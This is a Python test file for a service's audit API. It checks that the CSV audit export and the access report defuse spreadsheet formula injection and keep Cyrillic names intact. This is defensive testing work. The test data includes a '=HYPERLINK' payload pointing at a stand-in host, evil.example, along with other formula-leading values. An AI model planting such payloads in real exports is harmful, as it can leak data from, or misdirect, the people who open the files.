"""Issue 15 item 13 over HTTP: the audit export and the access report, opened by a spreadsheet
that splits on `,` or on `;`, show no cell that would be evaluated, and keep Cyrillic text."""

from __future__ import annotations

import csv
import io
import uuid

from sqlalchemy import update

from service.access.principal import Principal, PrincipalKind
from service.access.vocabulary import Role
from service.audit.service import AuditRecord, record
from service.core.csv_writer import FORMULA_LEADS
from service.organisations.models import Organisation
from tests.audit.test_tampering import AUDITOR

INJECTED = 'a;=HYPERLINK("http://evil.example/?x";"Натисни")'


def _rows(body: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"), newline=""), delimiter=delimiter))


def _no_formula_either_way(body: str) -> None:
    for delimiter in (",", ";"):
        for row in _rows(body, delimiter):
            for piece in row:
                assert not piece.lstrip('"').startswith(FORMULA_LEADS), (delimiter, piece)


async def test_the_audit_export_csv_opens_without_formulas_and_keeps_cyrillic(client, world, database):
    child_id = uuid.uuid4()
    actor = Principal(id="Иван Петров", kind=PrincipalKind.user, roles=frozenset({Role.cp_officer}))
    async with database.transaction() as session:
        await record(
            session,
            AuditRecord(actor=actor, action="child.read", decision="allow", reason=INJECTED,
                        resource_type="child", resource_id="-2+3", child_id=child_id),
        )

    response = await client.get(
        "/api/v1/audit/events/export", params={"format": "csv", "child_id": str(child_id)},
        headers=await world.headers(AUDITOR),
    )

    assert response.status_code == 200, response.text
    _no_formula_either_way(response.text)
    header, *rows = _rows(response.text, ",")
    [event] = [e for e in (dict(zip(header, row, strict=True)) for row in rows) if e["action"] == "child.read"]
    assert event["actor_id"] == "Иван Петров"
    assert event["resource_id"] == "'-2+3"
    assert event["reason"] == INJECTED.replace(";=", ";'=")
    assert response.text.splitlines()[1].startswith('"')  # every field quoted


async def test_the_access_report_csv_opens_without_formulas(client, world, database):
    hostile_name = "РУ Луковит;=SUM(1+2)"
    police = await world.organisation_id("police-lukovit")
    child_id = uuid.uuid4()
    actor = Principal(
        id="u-1", kind=PrincipalKind.user, roles=frozenset({Role.police_officer}), organisation_id=police
    )
    async with database.transaction() as session:
        await session.execute(update(Organisation).where(Organisation.id == police).values(name=hostile_name))  # type: ignore[arg-type]
        await record(
            session,
            AuditRecord(actor=actor, action="child.read", decision="allow", reason="-1+1",
                        resource_type="child", resource_id=str(child_id), child_id=child_id),
        )

    response = await client.get(
        f"/api/v1/audit/children/{child_id}/access-report", params={"format": "csv"},
        headers=await world.headers(AUDITOR),
    )

    assert response.status_code == 200, response.text
    _no_formula_either_way(response.text)
    header, *rows = _rows(response.text, ",")
    [entry] = [e for e in (dict(zip(header, row, strict=True)) for row in rows) if e["action"] == "child.read"]
    assert entry["organisation_name"] == "РУ Луковит;'=SUM(1+2)"
    assert entry["reason"] == "'-1+1"
